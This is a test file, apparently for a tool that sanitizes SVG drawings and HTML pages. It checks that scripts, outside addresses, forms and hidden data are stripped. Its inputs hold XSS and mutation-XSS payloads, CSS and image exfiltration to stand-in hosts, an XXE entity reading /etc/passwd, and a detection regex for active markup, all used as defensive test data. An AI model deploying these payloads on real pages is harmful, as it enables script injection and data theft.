/** A drawing or web page leaves as what it shows; nothing in it runs, loads, calls out or hides. */
import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { testSeed } from "../../../harness/seed.js";
import { picture } from "../../../promises/files/checkers.js";
import { finding, honest, look, refusal, SECRET, searched, twice, verdicts } from "./check.js";

const seed = testSeed();
console.info(`markup: seed ${seed}`);

const svg = (inner: string, attributes = "") =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inner}</svg>`,
  );
const page = (body: string, head = "") =>
  Buffer.from(`<!DOCTYPE html><html><head>${head}</head><body>${body}</body></html>`);
const out = (name: string, bytes: Buffer) => twice(name, bytes).canonical.toString("utf8");

/** Nothing that a browser would run, load or follow. */
const ACTIVE =
  /<(?:script|iframe|object|embed|form|input|button|link|base|a|foreignObject|animate|set|video|audio)\b|\bon\w+=|javascript:|https?:\/\/(?!www\.w3\.org\/(?:2000\/svg|1999\/xlink))|@import|@font-face|expression\(|url\((?!#r\d)|&(?!amp;|lt;|gt;|quot;)|http-equiv="refresh|srcset|<!--|<!ENTITY/i;

/** Tags and style sheets, without the text between them: there anything may be written. */
const markupOf = (text: string) => [...(text.match(/<style>[^<]*|<[^>]*>/g) ?? [])].join("\n");

describe("drawings", () => {
  test("as matplotlib writes them keep every shape and text, without metadata", () => {
    const got = twice("plot.svg", honest("plot.svg"));
    const text = got.canonical.toString("utf8");
    const count = (source: string, what: RegExp) => (source.match(what) ?? []).length;
    const before = honest("plot.svg").toString("utf8");
    for (const shape of [/<path/g, /<use/g, /<g[ >]/g, /<clipPath/g])
      expect([shape, count(text, shape)]).toEqual([shape, count(before, shape)]);
    expect(markupOf(text)).not.toMatch(ACTIVE);
    expect(text).not.toMatch(/metadata|matplotlib/i);
    expect(verdicts(got, "markup")).toEqual([]);
    expect(searched(got, "Kappa by age")).toBe(true);
  });

  test.each<[string, string, string]>([
    ["a script", "<script>fetch('//x')</script>", "scripts"],
    ["an event", `<rect width="1" height="1" onload="fetch('//x')"/>`, "event handlers"],
    [
      "a foreign page",
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//x"/></foreignObject>`,
      "embedded documents",
    ],
    ["a picture from elsewhere", `<image xlink:href="https://x.example/?d=1,70"/>`, "addresses"],
    ["a drawing as data", `<image href="data:image/svg+xml;base64,PHN2Zz4="/>`, "addresses"],
    ["a page as data", `<image href="data:text/html,hi"/>`, "addresses"],
    ["another file's shape", `<use href="other.svg#a"/>`, "addresses"],
    ["a link", `<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a>`, "addresses"],
    ["a paint from elsewhere", `<rect fill="url(https://x.example/#a)"/>`, "addresses"],
    ["an import", "<style>@import 'https://x.example/a.css';</style>", "@-rules"],
    ["a font", "<style>@font-face{font-family:a;src:url(//x)}</style>", "@-rules"],
    ["a style that calls out", `<rect style="fill:url('https://x.example')"/>`, "addresses in styles"],
    ["a style in escapes", `<rect style="fill:\\75rl(//x)"/>`, "addresses in styles"],
    ["a style that reads", `<style>rect[x^="7"]{fill:url(//x)}</style>`, "addresses in styles"],
    ["an animation", `<animate attributeName="href" to="javascript:alert(1)"/>`, "animations and filters"],
    ["a filter", `<filter id="f"><feImage href="//x"/></filter>`, "animations and filters"],
    ["something unseen", `<text display="none">1001,70</text>`, "hiding styles"],
    ["something unseen by style", `<text style="visibility: hidden">1001,70</text>`, "hiding styles"],
    [
      "references that grow",
      `<g id="a"><use href="#b"/></g><g id="b"><rect/></g><use href="#a"/>`,
      "nested references",
    ],
  ])("lose %s, and say so", (_, inner, kind) => {
    const bytes = svg(`${inner}<circle r="1"/>`);
    const text = out("a.svg", bytes);
    expect(markupOf(text)).not.toMatch(ACTIVE);
    expect(text).toContain("<circle");
    expect(finding(look("a.svg", bytes), "markup")[0]?.message).toContain(kind);
  });

  test.each<[string, string]>([
    ["a comment", `<!--${SECRET}-->`],
    ["metadata", `<metadata>${SECRET}</metadata>`],
    ["a description", `<desc>${SECRET}</desc>`],
    ["an unknown element", `<x:y xmlns:x="u:x">${SECRET}</x:y>`],
    ["an unknown attribute", `<rect data-x="${SECRET.toString().replace("\n", " ")}"/>`],
    [
      "an unused class",
      `<rect class="a"/><style>.unused{font-family:'${SECRET.toString().slice(0, 18)}'}</style>`,
    ],
    ["text outside of texts", SECRET.toString()],
    ["an instruction", `<?note ${SECRET}?>`],
  ])("hide nothing in %s", (_, inner) => {
    const got = twice("a.svg", svg(`<circle r="1"/>${inner}`));
    expect(got.canonical.includes("1001,70")).toBe(false);
    expect(verdicts(got, "hidden_content")).toEqual(["pass"]);
    expect(searched(got, "1001,70")).toBe(true);
  });

  test.each<[string, string]>([
    [
      "entities",
      `<!DOCTYPE svg [<!ENTITY a "1001,70">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>`,
    ],
    [
      "external entities",
      `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"/>`,
    ],
    ["a tail", `<svg xmlns="http://www.w3.org/2000/svg"/>1001,70`],
    ["a second root", `<svg xmlns="http://www.w3.org/2000/svg"/><svg xmlns="http://www.w3.org/2000/svg"/>`],
    ["another namespace", `<svg xmlns="http://example.org/"/>`],
    ["another root", `<html xmlns="http://www.w3.org/2000/svg"/>`],
    ["a web page", "<!DOCTYPE html><p>hi"],
    ["text", "a,b\n1,2\n"],
    ["an attribute given twice", `<svg xmlns="http://www.w3.org/2000/svg" x="1" x="2"/>`],
    [
      "endless nesting",
      `<svg xmlns="http://www.w3.org/2000/svg">${"<g>".repeat(5000)}${"</g>".repeat(5000)}</svg>`,
    ],
  ])("with %s are refused", (_, text) => {
    expect(["unreadable", "media_type", "limits"]).toContain(refusal("a.svg", Buffer.from(text))[0]);
  });

  test("keep local references under numbers, and coordinates of six digits", () => {
    const text = out(
      "a.svg",
      svg(
        `<defs><clipPath id="secret-1001"><path d="M1.123456789,2 3-4L.5.5a1 1 0 01.5.5z"/></clipPath></defs>
         <g id="secret-70" clip-path="url(#secret-1001)" transform="translate(1.00000001 , 2)"><rect width="10px"/></g>`,
        `viewBox="0 0 10 10"`,
      ),
    );
    expect(text).not.toContain("secret");
    expect(text).toContain(`<clipPath id="r1"><path d="M1.12346 2 3 -4L0.5 0.5a1 1 0 0 1 0.5 0.5z"/>`);
    expect(text).toContain(`<g clip-path="url(#r1)" transform="translate(1,2)">`);
  });

  test("keep a picture inside them, rebuilt like a picture", () => {
    const hiding = Buffer.concat([picture(), SECRET]);
    const got = twice("a.svg", svg(`<image href="data:image/png;base64,${hiding.toString("base64")}"/>`));
    expect(verdicts(got, "hidden_content")).toContain("fail");
    const inside = /base64,([^"]+)"/.exec(got.canonical.toString())![1]!;
    expect(Buffer.from(inside, "base64").equals(look("a.png", picture()).canonical!)).toBe(true);
  });
});

describe("web pages", () => {
  test("as pandas and statsmodels write them keep their tables", () => {
    const table = twice("t.html", honest("table.html"));
    expect(table.canonical.toString()).toContain("<td>64.721346</td>");
    expect(searched(table, "F,4350,64.721346")).toBe(true);
    const summary = twice("t.html", honest("summary.html"));
    expect(summary.canonical.toString()).toContain("OLS Regression Results");
    expect(verdicts(summary, "markup")).toEqual([]);
  });

  test("say by themselves that nothing may load", () => {
    expect(out("a.html", page("hi"))).toContain(
      `content="default-src 'none'; img-src data:; style-src 'unsafe-inline'"`,
    );
  });

  test.each<[string, Buffer, string]>([
    ["a script", page("<script>fetch('//x')</script>"), "scripts"],
    ["a script in a drawing", page("<svg><script>1</script><rect width=1 height=1 /></svg>"), "scripts"],
    ["an event", page("<p onclick=alert(1)>x"), "event handlers"],
    ["a frame", page("<iframe src=//x></iframe>"), "embedded documents"],
    ["a frame with a page in it", page(`<iframe srcdoc="<p>1001,70"></iframe>`), "embedded documents"],
    [
      "a form",
      page(`<form action="//x"><input name=a value="1001,70"><button>go</button></form>`),
      "forms and fields",
    ],
    [
      "a redirection",
      page("x", `<meta http-equiv="refresh" content="0;url=https://x.example/?1001,70">`),
      "page directives",
    ],
    ["a picture from elsewhere", page(`<img src="https://x.example/?1001,70">`), "addresses"],
    ["a choice of pictures", page(`<img srcset="https://x.example/?1001,70 2x" src="//x">`), "addresses"],
    ["a link", page(`<a href="https://x.example/?1001,70">more</a>`), "addresses"],
    ["a base", page("x", `<base href="https://x.example/">`), "addresses"],
    ["a style sheet", page("x", `<link rel=stylesheet href="//x">`), "addresses"],
    ["a prefetch", page("x", `<link rel=dns-prefetch href="//1001-70.x.example">`), "addresses"],
    [
      "a style that reads",
      page("x", `<style>td[data-x^="7"]{background:url(//x/7)}</style>`),
      "addresses in styles",
    ],
    ["an import", page("x", `<style>@import "//x";</style>`), "@-rules"],
    ["a page background", page(`<table background="//x"><tr><td>1</table>`), "addresses"],
    ["a style with an address", page(`<p style="background-image:url(//x)">x`), "addresses in styles"],
    ["something unseen", page("<p hidden>1001,70</p>"), "hiding styles"],
    ["something unseen by style", page(`<p style="display:none">1001,70</p>`), "hiding styles"],
    ["an object", page(`<object data="//x"></object><embed src="//x">`), "embedded documents"],
    ["a template", page("<template><script>1</script></template>"), "scripts"],
    ["formulas", page("<math><mtext><img src=//x onerror=1></math>"), "embedded documents"],
    ["an address in upper case", page(`<A HREF="JaVaScRiPt:alert(1)">x</A>`), "addresses"],
  ])("lose %s, and say so", (_, bytes, kind) => {
    const text = out("a.html", bytes);
    expect(markupOf(text)).not.toMatch(ACTIVE);
    expect(finding(look("a.html", bytes), "markup")[0]?.message).toContain(kind);
  });

  test.each([
    `<svg></p><style><g title="</style><img src onerror=alert(1)>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `<table><td><svg><desc><td><img src onerror=alert(1)></table>`,
    `<p><b><i></b><table><p>x</i>`,
    `<pre>\n\n x </pre><plaintext><b>`,
    `<svg><![CDATA[<script>alert(1)</script>]]></svg>`,
    `<xmp><script>alert(1)</script></xmp>`,
    `<title></title><script>alert(1)</script></title>`,
    `<style></style><script>alert(1)</script></style>`,
    `<select><style></select><img src onerror=alert(1)></style>`,
  ])("made to be parsed in two ways come out as one: %s", (body) => {
    const got = look("a.html", page(body));
    if (got.canonical === undefined) return;
    expect(markupOf(out("a.html", page(body)))).not.toMatch(ACTIVE);
  });

  test.each<[string, Buffer]>([
    ["a comment", page(`<!--${SECRET}-->x`)],
    ["an attribute", page(`<p data-x="${SECRET}" title="${SECRET}">x</p>`)],
    ["an id", page(`<p id="${SECRET}">x</p>`)],
    ["a class", page(`<p class="1001,70,F,2.31,1.07">x</p>`)],
    ["a description of the page", page("x", `<meta name=description content="${SECRET}">`)],
    [
      "an alternative text",
      page(`<img alt="${SECRET}" src="data:image/png;base64,${picture().toString("base64")}">`),
    ],
  ])("hide nothing in %s", (_, bytes) => {
    const got = twice("a.html", bytes);
    expect(got.canonical.includes("1001,70")).toBe(false);
  });

  test("carry nothing in white space, in the order of attributes, or in how things are spelt", () => {
    const a = out(
      "a.html",
      page(
        `<table border="1"><tr> <td  colspan='2' style="color: red;font-weight:bold">a &amp; b\t c</td></tr></table>`,
      ),
    );
    const b = out(
      "a.html",
      page(
        `<TABLE border=1>\n\n<TBODY><TR><TD style="color:red; font-weight: bold;" colspan=2>a &#38;\n\nb c`,
      ),
    );
    expect(a).toBe(b);
  });

  test("show a record of a table as a line to the search", () => {
    const got = twice("a.html", page("<table><tr><td>1001</td><td>70</td><td>F</td></tr></table>"));
    expect(searched(got, "1001,70,F")).toBe(true);
  });

  test("lose what cannot be seen in their text", () => {
    const got = twice("a.html", page("<p>a\u200bb\u202ec&shy;d&#8203;</p>"));
    expect(verdicts(got, "invisible_text")).toEqual(["review"]);
    expect(got.canonical.toString()).toContain("<p>abcd</p>");
  });

  test("of any tags are canonical after one pass, and nothing in them is active", () => {
    const piece = fc.constantFrom(
      ..."<p>|</p>|<b>|<table>|<tr>|<td>|</td>|</tr>|</table>|<svg>|</svg>|<path d=M0,0L1,1>|<style>|</style>".split(
        "|",
      ),
      ..."p{color:red}|<pre>|</pre>|<math>|<mi>|<a href=//x>|</a>|<script>|</script>|<title>|</title>|<!--|-->".split(
        "|",
      ),
      ..."<select>|<option>|<img src=//x onerror=1>|<template>|</template>|&lt;|&amp;|x|1.234567891|<desc>|<form>".split(
        "|",
      ),
      ..."<foreignObject>|<text>|</text>|<ul>|<li>|<h1>|<div class=c>|<svg:use>|<br>|</br>|<input>|]]>|<![CDATA[".split(
        "|",
      ),
      " ",
      "\n",
      "<text x=1>",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), (pieces) => {
        const bytes = page(pieces.join(""));
        const got = look("a.html", bytes);
        if (got.canonical === undefined) return;
        expect(markupOf(out("a.html", bytes))).not.toMatch(ACTIVE);
      }),
      { seed, numRuns: Number(process.env.GLOVEBOX_TEST_RUNS ?? 500) },
    );
  });
});

describe("what is no web page is refused", () => {
  test.each<[string, Buffer]>([
    ["a table", SECRET],
    ["a picture", picture()],
    ["bytes that are no text", Buffer.from([0x3c, 0x70, 0x3e, 0xff, 0xfe])],
    ["endless nesting", Buffer.from("<div>".repeat(100_000))],
  ])("%s", (_, bytes) => {
    expect(["unreadable", "media_type", "limits"]).toContain(refusal("a.html", bytes)[0]);
  });
});
